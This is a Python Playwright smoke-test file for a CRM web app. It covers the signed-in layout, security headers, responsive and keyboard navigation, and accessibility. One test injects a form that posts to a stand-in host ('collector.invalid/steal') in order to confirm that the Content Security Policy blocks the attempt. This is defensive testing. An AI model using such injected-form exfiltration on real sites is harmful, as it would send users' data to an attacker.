"""Smoke: the built app serves its shell to a signed-in browser, and its health endpoint answers."""

from __future__ import annotations

import re
import uuid
from typing import Any

from playwright.sync_api import expect

from crm_app.api.security_headers import CONTENT_SECURITY_POLICY

NAV_LINKS = ("Leads", "Contacts", "Calls", "Automations", "Webhooks", "Integrations")


def start_session(page: Any, *, name: str = "Smoke Test") -> None:
    """Sign a new user up through the API; the page's browser context keeps the cookie."""
    response = page.request.post(
        "/api/auth/signup",
        data={
            "name": name,
            "email": f"smoke-{uuid.uuid4().hex[:12]}@example.com",
            "password": f"smoke {uuid.uuid4().hex}",
        },
    )
    assert response.status == 201, response.text()


def expect_app_shell(page: Any, heading: str) -> None:
    """What a person sees on any signed-in page: its heading and the main navigation."""
    expect(page.get_by_role("heading", name=heading, exact=True)).to_be_visible()
    navigation = page.get_by_role("navigation", name="Main")
    for label in NAV_LINKS:
        expect(navigation.get_by_role("link", name=label, exact=True)).to_be_visible()


def test_dashboard_shows_the_app_shell(page: Any) -> None:
    start_session(page)

    page.goto("/dashboard")

    expect_app_shell(page, "Dashboard")


def test_no_other_site_may_frame_the_app_and_nothing_is_sniffed(page: Any) -> None:
    start_session(page)
    for response in (page.goto("/dashboard"), page.request.get("/api/health")):
        headers = response.headers
        assert headers["x-frame-options"] == "DENY"
        assert headers["content-security-policy"] == CONTENT_SECURITY_POLICY.decode()
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


def test_a_form_injected_into_a_page_cannot_post_to_another_site(page: Any) -> None:
    start_session(page)
    page.goto("/dashboard")
    expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    violated = page.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation",
                (event) => resolve(event.violatedDirective), {once: true});
            const form = document.createElement("form");
            form.method = "post";
            form.action = "https://collector.invalid/steal";
            document.body.appendChild(form);
            form.submit();
            setTimeout(() => resolve("none"), 3000);
        })"""
    )
    assert violated == "form-action"
    page.wait_for_timeout(500)  # a request let through would have been sent by now
    assert not [url for url in sent if "collector.invalid" in url]


def test_health_endpoint_reports_ok(page: Any) -> None:
    response = page.request.get("/api/health")

    assert response.status == 200
    assert response.json() == {"status": "ok"}


def test_phones_get_a_menu_button_instead_of_the_sidebar(new_context: Any) -> None:
    context = new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    start_session(page)
    page.goto("/dashboard")
    expect(page.get_by_role("heading", name="Dashboard", exact=True)).to_be_visible()
    expect(page.get_by_role("navigation", name="Main")).to_be_hidden()
    menu = page.get_by_role("button", name="Open navigation")
    expect(menu).to_be_visible()
    menu.click()
    expect(page.get_by_role("menuitem", name="Leads")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    # Its entries are links (they open in a new tab too), and the current page is marked.
    expect(page.get_by_role("menuitem", name="Leads")).to_have_attribute("href", "/leads")
    expect(page.get_by_role("menuitem", name="Dashboard")).to_have_attribute("aria-current", "page")
    expect(page.get_by_role("menuitem", name="Leads")).to_have_attribute("aria-current", "false")
    page.keyboard.press("Escape")
    # From the keyboard: Enter opens it on its first entry, Down moves to Leads, Enter follows.
    menu.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("menuitem", name="Dashboard")).to_be_focused()
    page.keyboard.press("ArrowDown")
    expect(page.get_by_role("menuitem", name="Leads")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(r"/leads/?$"))
    expect(page.get_by_role("heading", name="Leads", exact=True)).to_be_visible()
    menu.click()
    expect(page.get_by_role("menuitem", name="Leads")).to_have_attribute("aria-current", "page")
    page.keyboard.press("Escape")
    # Who is logged in sits behind a button of its own, and logging out works from there.
    expect(page.get_by_role("button", name="Log out")).to_be_hidden()
    # From the keyboard, the menu opens on its first link: a second Enter must not log out.
    page.get_by_role("button", name="Account menu").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("link", name="Account")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="Log out")).to_be_hidden()
    page.get_by_role("button", name="Account menu").click()
    page.get_by_role("button", name="Log out").click()
    expect(page).to_have_url(re.compile(r"/login/?$"))


def test_each_signed_in_page_has_one_main_heading(page: Any) -> None:
    start_session(page)
    for path in ("/dashboard", "/leads", "/contacts", "/calls", "/automations", "/webhooks"):
        page.goto(path)
        expect(page.get_by_role("main").get_by_role("heading", level=1)).to_have_count(1)
        expect(page.get_by_role("heading", level=1)).to_have_count(1)  # the brand is not one
    # A dialog's title ranks under the page's h1 (Radix Themes makes it another h1).
    page.goto("/leads")
    page.get_by_role("button", name="New lead").first.click()
    expect(page.get_by_role("dialog").get_by_role("heading", level=2)).to_have_text("New lead")
    expect(page.locator("h1")).to_have_count(1)  # the page's, hidden from the tree meanwhile


def test_a_page_change_is_announced_to_screen_readers(page: Any) -> None:
    start_session(page)
    page.goto("/dashboard")
    expect(page.get_by_role("heading", name="Dashboard", exact=True)).to_be_visible()
    announcer = page.locator("#page-announcer[aria-live=polite]")
    page.get_by_role("navigation", name="Main").get_by_role("link", name="Calls").click()
    expect(page.get_by_role("heading", name="Calls", exact=True)).to_be_visible()
    # Followed without a reload: no load event, focus stays on the link; the title is said.
    expect(announcer).to_have_text("Calls · crm_app")
    page.go_back()
    expect(announcer).to_have_text("Dashboard · crm_app")


def test_laptops_get_the_sidebar_and_no_menu_button(page: Any) -> None:
    start_session(page)
    page.goto("/dashboard")
    expect(page.get_by_role("navigation", name="Main")).to_be_visible()
    expect(page.get_by_role("button", name="Open navigation")).to_be_hidden()
